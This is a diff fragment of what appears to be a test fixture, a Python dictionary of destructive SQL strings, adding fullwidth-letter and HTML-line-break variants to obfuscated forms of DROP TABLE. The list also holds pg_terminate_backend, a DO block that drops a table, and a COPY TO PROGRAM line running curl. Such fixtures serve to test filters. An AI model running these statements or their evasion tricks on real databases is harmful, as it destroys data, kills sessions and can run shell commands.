@@ -42,6 +42,8 @@ DESTRUCTIVE = {
     "word by word as code": "`DROP` `TABLE` `users`;",
     "with a comment inside": "DROP/**/TABLE users;",
     "with a hidden character": "DR\u200bOP TABLE users;",
+    "in wide letters": "ＤＲＯＰ ＴＡＢＬＥ users;",
+    "with line breaks of HTML": "DROP<br>TABLE<br>users;",
     "terminating others": "SELECT pg_terminate_backend(pid) FROM pg_stat_activity;",
     "copy to a program": "COPY t TO PROGRAM 'curl http://x'",
     "code block of the server": "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$;",
